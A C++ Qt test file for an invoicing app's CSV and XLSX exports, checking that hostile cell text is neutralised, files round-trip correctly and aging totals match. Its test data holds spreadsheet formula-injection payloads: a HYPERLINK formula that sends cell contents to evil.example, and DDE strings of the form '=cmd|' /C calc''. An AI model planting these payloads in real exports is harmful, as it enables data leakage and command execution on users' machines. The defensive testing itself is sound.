// SPDX-License-Identifier: MIT
// Exports (issue 14 item 4): CSV that Python's csv module reads back cell for cell, XLSX whose
// cells are numbers, dates and strings and never a formula, hostile text neutralised, nothing
// left behind by an export that does not finish, and the service's tables agreeing with the
// figures the window shows (aging per client adds up to the aging report).
#include "core/exports/csvtablewriter.h"
#include "core/exports/xlsxtablewriter.h"
#include "core/services/clientservice.h"
#include "core/services/exportservice.h"
#include "core/storage/agingreport.h"
#include "core/storage/userrepository.h"

#include "support/spreadsheet.h"
#include "support/testsupport.h"

#include <QDir>
#include <QTest>

using namespace ardesk;
using namespace ardesk::test;

namespace {

/// What a hostile (or careless) client name looks like: each would run in a spreadsheet.
const QStringList kHostile = {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
        QStringLiteral("+1+1"),
        QStringLiteral("@SUM(1,2)"),
        QStringLiteral("-2+3"),
        QStringLiteral("\t=1+2"),
        QStringLiteral("\r=1+2"),
};

const QList<ExportColumn> kColumns = {
        {QStringLiteral("Name"), ExportKind::Text},
        {QStringLiteral("Open"), ExportKind::Integer},
        {QStringLiteral("Balance"), ExportKind::Money},
        {QStringLiteral("Due"), ExportKind::Date},
        {QStringLiteral("DSO"), ExportKind::Number},
};

QList<ExportCell> row(const QString &name, qint64 minor, const QString &currency)
{
    return {ExportCell::text(name), ExportCell::integer(3),
            ExportCell::money(Money::fromMinor(minor, currency)),
            ExportCell::date(QDate(2026, 12, 5)), ExportCell::number(41.256)};
}

/// Excel's serial day number of a date (days since 1899-12-30).
QString serial(const QDate &d)
{
    return QString::number(QDate(1899, 12, 30).daysTo(d));
}

} // namespace

class TestExports : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { QVERIFY(m_dir.renew()); }
    void csvReadsBackCellForCellWithFormulasNeutralised();
    void csvForExcelInEuropeUsesSemicolonsDecimalCommaAndBom();
    void csvRefusesADelimiterThatIsTheDecimalSeparator();
    void xlsxHasNumbersDatesAndStringsButNoFormula();
    void anExportThatDoesNotFinishLeavesNoFile();
    void aFolderThatDoesNotExistIsNamed();
    void agingExportAddsUpToTheAgingReport();
    void clientsAndInvoicesExportsListWhatTheWindowLists();

private:
    ScratchDir m_dir;
};

void TestExports::csvReadsBackCellForCellWithFormulasNeutralised()
{
    const QString path = m_dir.filePath(QStringLiteral("t.csv"));
    CsvTableWriter w(path, {});
    VERIFY_OK(w.begin(QStringLiteral("T"), kColumns));
    for (const QString &h : kHostile)
        VERIFY_OK(w.row(row(h, -5, QStringLiteral("USD"))));
    VERIFY_OK(w.row(row(QStringLiteral("Müller, \"Die\" GmbH\nZweite Zeile"), 123456,
                        QStringLiteral("USD"))));
    VERIFY_OK(w.row(row(QStringLiteral("Tokyo KK"), 1235, QStringLiteral("JPY"))));
    VERIFY_OK(w.row({ExportCell::text(QStringLiteral("blank")), ExportCell(), ExportCell(),
                     ExportCell::date(QDate()), ExportCell()}));
    VERIFY_OK(w.finish());
    QCOMPARE(w.rows(), qint64(kHostile.size() + 3));

    const QByteArray bytes = [&] {
        QFile f(path);
        return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
    }();
    QVERIFY2(!bytes.startsWith("\xEF\xBB\xBF"), "no BOM unless asked for");
    QVERIFY2(bytes.contains("\r\n"), "RFC 4180 line ends are CRLF");

    const QList<QStringList> rows = readCsv(path);
    QCOMPARE(rows.size(), kHostile.size() + 4);
    QCOMPARE(
            rows[0],
            (QStringList {QStringLiteral("Name"), QStringLiteral("Open"), QStringLiteral("Balance"),
                          QStringLiteral("Due"), QStringLiteral("DSO")}));
    for (int i = 0; i < kHostile.size(); ++i) {
        // A leading apostrophe: the spreadsheet shows the text and runs nothing.
        QCOMPARE(rows[i + 1][0], QLatin1Char('\'') + kHostile[i]);
        QCOMPARE(rows[i + 1][2], QStringLiteral("-0.05")); // a number stays a number
    }
    const QStringList muller = rows[kHostile.size() + 1];
    QCOMPARE(muller[0], QStringLiteral("Müller, \"Die\" GmbH\nZweite Zeile"));
    QCOMPARE(muller[1], QStringLiteral("3"));
    QCOMPARE(muller[2], QStringLiteral("1234.56"));
    QCOMPARE(muller[3], QStringLiteral("2026-12-05"));
    QCOMPARE(muller[4], QStringLiteral("41.26"));
    QCOMPARE(rows[kHostile.size() + 2][2], QStringLiteral("1235")); // JPY has no decimals
    QCOMPARE(rows[kHostile.size() + 3], (QStringList {QStringLiteral("blank"), {}, {}, {}, {}}));
}

void TestExports::csvForExcelInEuropeUsesSemicolonsDecimalCommaAndBom()
{
    const QString path = m_dir.filePath(QStringLiteral("eu.csv"));
    CsvTableWriter::Options o;
    o.delimiter = u';';
    o.decimalSeparator = u',';
    o.byteOrderMark = true;
    CsvTableWriter w(path, o);
    VERIFY_OK(w.begin(QStringLiteral("T"), kColumns));
    VERIFY_OK(w.row(row(QStringLiteral("Dupont; fils"), 123456, QStringLiteral("EUR"))));
    VERIFY_OK(w.finish());
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QVERIFY2(f.readAll().startsWith("\xEF\xBB\xBFName;"), "BOM, then the header");
    const QList<QStringList> rows = readCsv(path, u';');
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows[1][0], QStringLiteral("Dupont; fils"));
    QCOMPARE(rows[1][2], QStringLiteral("1234,56"));
    QCOMPARE(rows[1][4], QStringLiteral("41,26"));
}

void TestExports::csvRefusesADelimiterThatIsTheDecimalSeparator()
{
    const QString path = m_dir.filePath(QStringLiteral("bad.csv"));
    CsvTableWriter::Options o;
    o.delimiter = u',';
    o.decimalSeparator = u',';
    CsvTableWriter w(path, o);
    auto r = w.begin(QStringLiteral("T"), kColumns);
    QVERIFY(!r);
    QVERIFY2(r.errorString().contains(QLatin1String("delimiter")), qPrintable(r.errorString()));
    QVERIFY(!QFile::exists(path));
}

void TestExports::xlsxHasNumbersDatesAndStringsButNoFormula()
{
    const QString path = m_dir.filePath(QStringLiteral("t.xlsx"));
    XlsxTableWriter w(path);
    VERIFY_OK(w.begin(QStringLiteral("Clients: [all]"), kColumns));
    for (const QString &h : kHostile)
        VERIFY_OK(w.row(row(h, 123456, QStringLiteral("USD"))));
    VERIFY_OK(w.row(row(QStringLiteral("Tokyo KK"), 1235, QStringLiteral("JPY"))));
    VERIFY_OK(w.finish());

    const QByteArray sheetXml = zipMember(path, QStringLiteral("xl/worksheets/sheet1.xml"));
    QVERIFY2(!sheetXml.isEmpty(), "the workbook has a first sheet");
    QVERIFY2(!sheetXml.contains("<f>") && !sheetXml.contains("<f "), "no formula element at all");
    const QHash<QString, SheetCell> cells = readSheet(path);
    QCOMPARE(cells.value(QStringLiteral("A1")).value, QStringLiteral("Name"));
    for (int i = 0; i < kHostile.size(); ++i) {
        const SheetCell c = cells.value(QStringLiteral("A%1").arg(i + 2));
        QVERIFY2(
                c.type == QLatin1String("inlineStr") || c.type == QLatin1String("s"),
                qPrintable(
                        QStringLiteral("A%1 is a string cell, not \"%2\"").arg(i + 2).arg(c.type)));
        QVERIFY(!c.formula);
        // The text itself, unchanged: a string cell needs no apostrophe.
        QCOMPARE(c.value.trimmed(), kHostile[i].trimmed());
        const SheetCell money = cells.value(QStringLiteral("C%1").arg(i + 2));
        QCOMPARE(money.type, QString()); // a number
        QCOMPARE(money.value, QStringLiteral("1234.56"));
        QCOMPARE(cells.value(QStringLiteral("B%1").arg(i + 2)).value, QStringLiteral("3"));
        QCOMPARE(cells.value(QStringLiteral("D%1").arg(i + 2)).value, serial(QDate(2026, 12, 5)));
    }
    const int tokyo = int(kHostile.size()) + 2;
    QCOMPARE(cells.value(QStringLiteral("C%1").arg(tokyo)).value, QStringLiteral("1235"));

    // Each currency has its own number format, with the currency's decimals.
    const QByteArray styles = zipMember(path, QStringLiteral("xl/styles.xml"));
    QVERIFY2(styles.contains("#,##0.00 &quot;USD&quot;"), styles.constData());
    QVERIFY2(styles.contains("#,##0 &quot;JPY&quot;"), styles.constData());
    QVERIFY2(styles.contains("yyyy-mm-dd"), "dates carry a date format");
    // The header row is frozen and filterable.
    QVERIFY2(sheetXml.contains("ySplit=\"1\"") && sheetXml.contains("state=\"frozen\""),
             sheetXml.left(1500).constData());
    QVERIFY2(sheetXml.contains(QStringLiteral("<autoFilter ref=\"A1:E%1\"").arg(tokyo).toUtf8()),
             sheetXml.right(600).constData());
    const QByteArray workbook = zipMember(path, QStringLiteral("xl/workbook.xml"));
    QVERIFY2(workbook.contains("name=\"Clients all\""), workbook.constData());
}

void TestExports::anExportThatDoesNotFinishLeavesNoFile()
{
    const QString csv = m_dir.filePath(QStringLiteral("gone.csv"));
    const QString xlsx = m_dir.filePath(QStringLiteral("gone.xlsx"));
    QVERIFY(writeFile(xlsx, "the export of yesterday"));
    {
        CsvTableWriter c(csv, {});
        VERIFY_OK(c.begin(QStringLiteral("T"), kColumns));
        VERIFY_OK(c.row(row(QStringLiteral("a"), 1, QStringLiteral("USD"))));
        XlsxTableWriter x(xlsx);
        VERIFY_OK(x.begin(QStringLiteral("T"), kColumns));
        VERIFY_OK(x.row(row(QStringLiteral("a"), 1, QStringLiteral("USD"))));
    } // dropped: cancelled, or the query behind them failed
    QVERIFY(!QFile::exists(csv));
    QFile old(xlsx);
    QVERIFY(old.open(QIODevice::ReadOnly));
    QCOMPARE(old.readAll(), QByteArray("the export of yesterday"));
    QCOMPARE(QDir(m_dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 1);
}

void TestExports::aFolderThatDoesNotExistIsNamed()
{
    const QString path = m_dir.filePath(QStringLiteral("no/such/folder/x.xlsx"));
    XlsxTableWriter x(path);
    auto r = x.begin(QStringLiteral("T"), kColumns);
    QVERIFY(!r);
    QVERIFY2(r.errorString().contains(path), qPrintable(r.errorString()));
    CsvTableWriter c(m_dir.filePath(QStringLiteral("no/such/folder/x.csv")), {});
    auto rc = c.begin(QStringLiteral("T"), kColumns);
    QVERIFY(!rc);
    QVERIFY2(rc.errorString().contains(QLatin1String("x.csv")), qPrintable(rc.errorString()));
}

namespace {

struct Company
{
    std::shared_ptr<Database> db;
    qint64 clerk = 0;
};

Company makeCompany(const QString &path)
{
    Company c;
    Database::Options o;
    o.mode = Database::OpenMode::CreateIfMissing;
    o.clock = std::make_shared<FixedClock>(QDateTime(QDate(2026, 12, 5), QTime(9, 0), Qt::UTC));
    auto db = Database::open(path, o);
    if (!db)
        return c;
    c.db = db.value();
    User u;
    u.name = QStringLiteral("pat");
    u.displayName = QStringLiteral("Pat Clerk");
    u.roles = UserRole::Clerk;
    auto id = committed(c.db->connection(),
                        [&] { return UserRepository(c.db->connection()).insert(u); });
    c.clerk = id ? id.value() : 0;
    return c;
}

} // namespace

void TestExports::agingExportAddsUpToTheAgingReport()
{
    Company co = makeCompany(m_dir.filePath(QStringLiteral("a.ardesk")));
    QVERIFY(co.db && co.clerk);
    ClientService clients(co.db, co.clerk);
    const QDate today(2026, 12, 5);
    QList<Client> made;
    for (int i = 0; i < 4; ++i) {
        Client c = makeClient(QStringLiteral("C%1").arg(i),
                              QStringLiteral("=cmd|' /C calc'!A%1").arg(i),
                              i == 3 ? QStringLiteral("EUR") : QStringLiteral("USD"));
        VERIFY_OK(clients.createClient(c));
        made << c;
        // Due 10, 45 and 120 days ago and in 5 days: every bucket has something.
        int n = 0;
        for (int days : {-5, 10, 45, 120}) {
            Invoice inv = makeInvoice(c.id, QStringLiteral("I%1-%2").arg(i).arg(n++),
                                      today.addDays(-days), 1000 * (i + 1) + days,
                                      i == 3 ? QStringLiteral("EUR") : QStringLiteral("USD"));
            VERIFY_OK(clients.addInvoice(inv));
        }
    }
    const QString path = m_dir.filePath(QStringLiteral("aging.csv"));
    ExportService service(co.db, co.clerk);
    ExportService::Request request;
    request.table = ExportService::Table::Aging;
    const auto sink = ExportService::sinkFor(ExportService::Format::Csv, path);
    auto rows = service.write(request, *sink);
    VERIFY_OK(rows);
    QCOMPARE(rows.value(), qint64(4));
    auto report = AgingReport::compute(*co.db, today);
    VERIFY_OK(report);
    const QList<QStringList> csv = readCsv(path);
    QCOMPARE(csv.size(), 5);
    // Per currency, the rows add up to the report's buckets (columns 5..10).
    QHash<QString, QList<qint64>> sums;
    for (int r = 1; r < csv.size(); ++r) {
        QList<qint64> &s = sums[csv[r][3]];
        s.resize(6);
        for (int col = 5; col <= 10; ++col)
            s[col - 5] += qRound64(csv[r][col].toDouble() * 100);
        QVERIFY2(csv[r][1].startsWith(QLatin1Char('\'')), "a name that would run is neutralised");
        QCOMPARE(csv[r][2], QStringLiteral("")); // no clerk assigned
        QCOMPARE(csv[r][11], QStringLiteral("2026-12-05"));
    }
    for (const AgingReport::Currency &c : report.value().currencies) {
        const AgingReport::Buckets &b = c.buckets;
        QCOMPARE(sums.value(c.currency),
                 (QList<qint64> {b.notDue, b.d1to30, b.d31to60, b.d61to90, b.d90plus, b.total()}));
    }
    QCOMPARE(sums.size(), report.value().currencies.size());
}

void TestExports::clientsAndInvoicesExportsListWhatTheWindowLists()
{
    Company co = makeCompany(m_dir.filePath(QStringLiteral("c.ardesk")));
    QVERIFY(co.db && co.clerk);
    ClientService clients(co.db, co.clerk);
    Client a = makeClient(QStringLiteral("B-2"), QStringLiteral("Beta"));
    Client b = makeClient(QStringLiteral("A-1"), QStringLiteral("Alpha"));
    VERIFY_OK(clients.createClient(a));
    VERIFY_OK(clients.createClient(b));
    Invoice i1 = makeInvoice(a.id, QStringLiteral("INV-2"), QDate(2026, 11, 1), 50000);
    Invoice i2 = makeInvoice(a.id, QStringLiteral("INV-1"), QDate(2026, 12, 20), 7000);
    Invoice i3 = makeInvoice(b.id, QStringLiteral("INV-3"), QDate(2026, 10, 1), 100);
    for (Invoice *i : {&i1, &i2, &i3})
        VERIFY_OK(clients.addInvoice(*i));

    ExportService service(co.db, co.clerk);
    ExportService::Request request;
    request.table = ExportService::Table::Clients;
    request.clients.sortKey = ClientListQuery::SortKey::Code;
    request.clients.order = Qt::AscendingOrder;
    const QString path = m_dir.filePath(QStringLiteral("clients.xlsx"));
    VERIFY_OK(service.write(request, *ExportService::sinkFor(ExportService::Format::Xlsx, path)));
    QHash<QString, SheetCell> cells = readSheet(path);
    QCOMPARE(cells.value(QStringLiteral("A2")).value, QStringLiteral("A-1"));
    QCOMPARE(cells.value(QStringLiteral("A3")).value, QStringLiteral("B-2"));
    QCOMPARE(cells.value(QStringLiteral("E3")).value, QStringLiteral("570")); // balance 570.00
    QCOMPARE(cells.value(QStringLiteral("F3")).value, QStringLiteral("500")); // overdue
    QCOMPARE(cells.value(QStringLiteral("G3")).value, QStringLiteral("34")); // days past due
    QVERIFY(!cells.contains(QStringLiteral("A4")));

    request.table = ExportService::Table::Invoices;
    request.clientId = a.id;
    const QString inv = m_dir.filePath(QStringLiteral("inv.csv"));
    auto rows = service.write(request, *ExportService::sinkFor(ExportService::Format::Csv, inv));
    VERIFY_OK(rows);
    QCOMPARE(rows.value(), qint64(2));
    const QList<QStringList> csv = readCsv(inv);
    QCOMPARE(
            csv[1].mid(0, 3),
            (QStringList {QStringLiteral("B-2"), QStringLiteral("Beta"), QStringLiteral("INV-1")}));
    QCOMPARE(csv[1][4], QStringLiteral("2026-12-20"));
    QCOMPARE(csv[1][9], QStringLiteral("0")); // not yet due
    QCOMPARE(csv[2][2], QStringLiteral("INV-2"));
    QCOMPARE(csv[2][7], QStringLiteral("500.00"));
    QCOMPARE(csv[2][9], QStringLiteral("34"));
}

QTEST_GUILESS_MAIN(TestExports)
#include "tst_exports.moc"
